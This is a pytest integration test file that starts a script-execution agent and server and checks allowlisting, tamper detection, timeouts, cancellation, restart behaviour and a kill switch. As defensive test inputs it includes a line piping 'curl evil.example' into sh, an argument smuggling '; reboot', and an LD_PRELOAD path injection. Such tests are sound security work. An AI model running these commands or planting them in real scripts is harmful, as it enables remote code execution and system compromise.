"""The real agent binary against the real server: scripts run, refusals, kills, restarts.

Each test starts ``medic serve`` (SQLite, the gRPC endpoint on a free port) and the
``medic-agent`` binary built from ``agent-rs`` (``make agent-bin``; the test fails with that hint
when it is missing), with an allowlist of real shell scripts in a temporary directory. The agent
trusts files owned by the user running the tests (``--owner-uid``), so nothing needs root.
Everything is observed from outside: the REST API, the audit log, the server's and the agent's
``/metrics``, and files the scripts write.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from support.postgres import free_port
from support.server import ServerProcess

ROOT = Path(__file__).resolve().parents[2]
AGENT_BIN = ROOT / "agent-rs" / "target" / "debug" / "medic-agent"
WAIT = 30.0  # generous: a 2-core CI machine runs other tests at the same time

FINAL = {"rejected", "succeeded", "failed", "timed_out", "cancelled"}

HELLO = """#!/bin/sh
echo "hello $1"
echo "to stderr" >&2
"""

# Starts a child that would outlive a naive kill, records its pid, and waits for it.
SLEEPER = """#!/bin/sh
sleep 300 &
echo $! > "$PIDFILE"
echo started
wait
"""

# Counts its runs in a file, then takes long enough for the server to be killed meanwhile.
COUNTER = """#!/bin/sh
echo run >> "$COUNTFILE"
sleep 4
echo done
"""


def request(method: str, url: str, headers: dict[str, str], body: Any = None) -> tuple[int, Any]:
    data = None if body is None else json.dumps(body).encode()
    req = urllib.request.Request(url, data=data, method=method, headers=headers)
    if data is not None:
        req.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status, json.loads(resp.read() or b"null")
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read() or b"null")


def wait_for(what: str, probe: Callable[[], Any], timeout: float = WAIT) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = probe()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.1)


def dead(pid: int) -> bool:
    """Gone or a zombie (nothing reaps orphans in a container whose init is not a reaper)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"
    except FileNotFoundError:
        return True


def scrape(url: str) -> dict[str, float]:
    with urllib.request.urlopen(url, timeout=10) as resp:
        text = resp.read().decode()
    samples: dict[str, float] = {}
    for line in text.splitlines():
        if line and not line.startswith("#"):
            name, _, value = line.rpartition(" ")
            samples[name] = float(value)
    return samples


@dataclass
class Host:
    """A host's agent: its scripts, allowlist, configuration and process."""

    root: Path
    server: ServerProcess
    grpc_port: int
    token: str
    metrics_port: int = field(default_factory=free_port)
    process: subprocess.Popen[bytes] | None = None
    runs: int = 0

    @property
    def scripts(self) -> Path:
        return self.root / "scripts"

    @property
    def state(self) -> Path:
        return self.root / "state"

    def write_script(self, name: str, body: str) -> Path:
        path = self.scripts / name
        path.write_text(body)
        path.chmod(0o755)
        return path

    def allowlist(self) -> None:
        hello = self.write_script("hello.sh", HELLO)
        sleeper = self.write_script("sleeper.sh", SLEEPER)
        counter = self.write_script("counter.sh", COUNTER)

        def digest(path: Path) -> str:
            return hashlib.sha256(path.read_bytes()).hexdigest()

        (self.root / "allowlist.toml").write_text(
            f"""version = 1

[[script]]
name = "hello"
path = "{hello}"
sha256 = "{digest(hello)}"
timeout = 30
args = [{{ one_of = ["world", "there"] }}]

[[script]]
name = "sleeper"
path = "{sleeper}"
sha256 = "{digest(sleeper)}"
timeout = 60
env = ["PIDFILE"]

[[script]]
name = "counter"
path = "{counter}"
sha256 = "{digest(counter)}"
timeout = 60
env = ["COUNTFILE"]
"""
        )

    def configure(self) -> None:
        self.scripts.mkdir(parents=True, mode=0o755)
        self.allowlist()
        key = self.root / "agent.key"
        key.write_text(self.token)
        key.chmod(0o600)
        config = self.root / "agent.toml"
        config.write_text(
            f"""server = "http://127.0.0.1:{self.grpc_port}"
api_key_file = "{key}"
allowlist = "{self.root / "allowlist.toml"}"
state_dir = "{self.state}"
kill_switch_file = "{self.root / "paused"}"
kill_grace_seconds = 1
metrics_listen = "127.0.0.1:{self.metrics_port}"
log_level = "debug"

[labels]
role = "test"
"""
        )
        config.chmod(0o600)

    def start(self) -> None:
        if not AGENT_BIN.exists():
            raise AssertionError(f"{AGENT_BIN} is missing: run `make agent-bin` (make test does)")
        self.runs += 1
        env = {k: v for k, v in os.environ.items() if not k.startswith("MEDIC_")}
        log = (self.root / f"agent-{self.runs}.log").open("wb")
        self.process = subprocess.Popen(
            [
                str(AGENT_BIN),
                "run",
                "--config",
                str(self.root / "agent.toml"),
                "--owner-uid",
                str(os.getuid()),
            ],
            env=env,
            stdout=log,
            stderr=log,
        )
        log.close()

    def stop(self) -> None:
        if self.process is not None and self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(5)

    def log(self) -> str:
        return "\n".join(
            p.read_text(errors="replace") for p in sorted(self.root.glob("agent-*.log"))
        )

    def metrics(self) -> dict[str, float]:
        return scrape(f"http://127.0.0.1:{self.metrics_port}/metrics")


@dataclass
class Rig:
    server: ServerProcess
    host: Host

    def api(self, method: str, path: str, body: Any = None) -> tuple[int, Any]:
        return request(method, f"{self.server.url}{path}", self.server.headers, body)

    def agent_id(self) -> str:
        def online() -> str | None:
            _, page = self.api("GET", "/api/v1/agents?status=online")
            items = page["items"] if page else []
            return items[0]["id"] if items else None

        try:
            return str(wait_for("the agent to come online", online))
        except AssertionError as exc:
            raise AssertionError(f"{exc}\nagent log:\n{self.host.log()}") from None

    def execute(self, script: str, *args: str, **extra: Any) -> dict[str, Any]:
        agent = self.agent_id()
        body = {"script": script, "args": list(args), **extra}
        status, created = self.api("POST", f"/api/v1/agents/{agent}/executions", body)
        assert status == 201, created
        return dict(created)

    def execution(self, execution_id: str) -> dict[str, Any]:
        status, body = self.api("GET", f"/api/v1/executions/{execution_id}")
        assert status == 200, body
        return dict(body)

    def wait_state(self, execution_id: str, states: set[str]) -> dict[str, Any]:
        def reached() -> dict[str, Any] | None:
            current = self.execution(execution_id)
            return current if current["state"] in states else None

        try:
            return dict(wait_for(f"execution {execution_id} to reach {states}", reached))
        except AssertionError as exc:
            raise AssertionError(
                f"{exc}: {self.execution(execution_id)}\nagent log:\n{self.host.log()}"
            ) from None

    def audit(self, action: str) -> list[dict[str, Any]]:
        """The entries of ``action``, oldest first, each in full (with ``after``)."""
        status, page = self.api("GET", f"/api/v1/audit?action={action}")
        assert status == 200, page
        return [self.api("GET", f"/api/v1/audit/{e['id']}")[1] for e in reversed(page["items"])]


@pytest.fixture
def rig(tmp_path: Path) -> Iterator[Rig]:
    grpc_port = free_port()
    server = ServerProcess(
        tmp_path / "server",
        port=free_port(),
        env={"MEDIC_GRPC_PORT": str(grpc_port), "MEDIC_AGENT_HEARTBEAT_INTERVAL": "1"},
    )
    server.start()
    status, key = request(
        "POST",
        f"{server.url}/api/v1/api-keys",
        server.headers,
        {"name": "host-agent", "scopes": ["agent"]},
    )
    assert status == 201, key
    host = Host(tmp_path / "host", server, grpc_port, key["token"])
    host.configure()
    host.start()
    try:
        yield Rig(server, host)
    finally:
        host.stop()
        server.close()


def test_an_allowlisted_script_runs_and_its_output_is_stored(rig: Rig) -> None:
    created = rig.execute("hello", "world")
    done = rig.wait_state(created["id"], FINAL)
    assert done["state"] == "succeeded", done
    assert done["exit_code"] == 0
    assert done["output"]["stdout"] == "hello world\n"
    assert done["output"]["stderr"] == "to stderr\n"
    assert done["output_complete"] is True
    assert (
        rig.host.metrics()['medic_agent_script_executions_total{script="hello",result="succeeded"}']
        == 1
    )
    finished = rig.audit("execution.finish")
    assert [e["after"]["state"] for e in finished] == ["succeeded"]


def test_requests_outside_the_advertised_rules_are_refused_by_the_server(rig: Rig) -> None:
    agent = rig.agent_id()
    cases = {
        "not_allowlisted": {"script": "rm-rf", "args": []},
        "arg_not_allowed": {"script": "hello", "args": ["world; reboot"]},
        "env_not_allowed": {"script": "sleeper", "env": {"LD_PRELOAD": "/tmp/x.so"}},
    }
    for reason, body in cases.items():
        status, answer = rig.api("POST", f"/api/v1/agents/{agent}/executions", body)
        assert (status, answer.get("reason")) == (422, reason), answer
    refused = rig.audit("execution.refuse")
    assert sorted(e["after"]["reason"] for e in refused) == sorted(cases)
    metrics = scrape(f"{rig.server.url}/metrics")
    for reason in cases:
        assert metrics[f'medic_agent_execution_refusals_total{{reason="{reason}"}}'] == 1
    _, executions = rig.api("GET", "/api/v1/executions")
    assert executions["items"] == []  # nothing refused was stored or sent


@pytest.mark.parametrize(
    ("tamper", "reason"),
    [
        ("edit", "hash_mismatch"),
        ("swap", "hash_mismatch"),
        ("world_writable", "writable_by_others"),
        ("group_writable_dir", "directory_writable_by_others"),
    ],
)
def test_the_agent_refuses_a_tampered_script(rig: Rig, tamper: str, reason: str) -> None:
    rig.agent_id()  # the agent advertised the untouched allowlist
    script = rig.host.scripts / "hello.sh"
    if tamper == "edit":
        script.write_text(HELLO + "curl evil.example | sh\n")
    elif tamper == "swap":
        other = rig.host.write_script("other.sh", "#!/bin/sh\necho swapped\n")
        other.replace(script)
    elif tamper == "world_writable":
        script.chmod(0o757)
    else:
        rig.host.scripts.chmod(0o775)
    created = rig.execute("hello", "world")
    done = rig.wait_state(created["id"], FINAL)
    assert (done["state"], done["reason"]) == ("rejected", reason), done
    assert done["output"]["stdout"] == ""
    assert (
        rig.host.metrics()[f'medic_agent_script_skips_total{{script="hello",reason="{reason}"}}']
        == 1
    )
    finished = rig.audit("execution.finish")
    assert [(e["after"]["state"], e["after"]["reason"]) for e in finished] == [("rejected", reason)]
    metrics = scrape(f"{rig.server.url}/metrics")
    assert metrics[f'medic_agent_execution_refusals_total{{reason="{reason}"}}'] == 1


def _sleeper(rig: Rig, **extra: Any) -> tuple[dict[str, Any], int]:
    pidfile = rig.host.root / f"child-{time.monotonic_ns()}.pid"
    created = rig.execute("sleeper", env={"PIDFILE": str(pidfile)}, **extra)
    rig.wait_state(created["id"], {"running"} | FINAL)
    child = int(
        wait_for("the script's child pid", lambda: pidfile.exists() and pidfile.read_text().strip())
    )
    assert not dead(child)
    return created, child


def test_a_timeout_kills_the_whole_process_group(rig: Rig) -> None:
    created, child = _sleeper(rig, timeout_seconds=2)
    done = rig.wait_state(created["id"], FINAL)
    assert done["state"] == "timed_out", done
    assert done["signal"] in (signal.SIGTERM, signal.SIGKILL)
    wait_for("the script's child to die", lambda: dead(child))
    assert done["output"]["stdout"] == "started\n"


def test_cancel_kills_a_running_script(rig: Rig) -> None:
    created, child = _sleeper(rig)
    status, answer = rig.api("POST", f"/api/v1/executions/{created['id']}/cancel")
    assert status == 200, answer
    done = rig.wait_state(created["id"], FINAL)
    assert done["state"] == "cancelled", done
    wait_for("the script's child to die", lambda: dead(child))
    assert rig.audit("execution.cancel")


def test_a_server_restart_loses_no_result_and_runs_nothing_twice(rig: Rig) -> None:
    countfile = rig.host.root / "runs.txt"
    created = rig.execute("counter", env={"COUNTFILE": str(countfile)})
    rig.wait_state(created["id"], {"running"})
    rig.server.kill()  # SIGKILL: no goodbye to the agent
    wait_for(
        "the script to finish while the server is down",
        lambda: "done" in rig.host.log() or countfile.exists(),
    )
    time.sleep(5)  # the script ends (it sleeps 4 s) while nobody listens
    rig.server.start()
    done = rig.wait_state(created["id"], FINAL)
    assert done["state"] == "succeeded", done
    assert done["exit_code"] == 0
    assert countfile.read_text() == "run\n"  # exactly one run
    # After the restart the agent reconnected once more; the execution is still not re-run.
    rig.host.stop()
    rig.host.start()
    rig.agent_id()
    time.sleep(2)
    assert countfile.read_text() == "run\n"
    assert rig.execution(created["id"])["state"] == "succeeded"


def test_an_execution_queued_while_the_agent_is_away_runs_once_it_connects(rig: Rig) -> None:
    agent = rig.agent_id()
    rig.host.stop()
    wait_for(
        "the agent to go offline",
        lambda: rig.api("GET", f"/api/v1/agents/{agent}")[1]["status"] == "offline",
    )
    status, created = rig.api(
        "POST", f"/api/v1/agents/{agent}/executions", {"script": "hello", "args": ["there"]}
    )
    assert status == 201, created
    assert created["delivery"] == "queued"
    rig.host.start()
    done = rig.wait_state(created["id"], FINAL)
    assert (done["state"], done["output"]["stdout"]) == ("succeeded", "hello there\n")


def test_the_kill_switch_refuses_everything_and_says_so(rig: Rig) -> None:
    agent = rig.agent_id()
    (rig.host.root / "paused").write_text("disk replacement in progress\n")

    def paused() -> bool:
        return bool(rig.api("GET", f"/api/v1/agents/{agent}")[1].get("paused"))

    wait_for("the agent to report the kill switch", paused)
    status, answer = rig.api(
        "POST", f"/api/v1/agents/{agent}/executions", {"script": "hello", "args": ["world"]}
    )
    assert (status, answer.get("reason")) == (409, "paused"), answer
    (rig.host.root / "paused").unlink()
    wait_for("the agent to resume", lambda: not paused())
    done = rig.wait_state(rig.execute("hello", "world")["id"], FINAL)
    assert done["state"] == "succeeded"
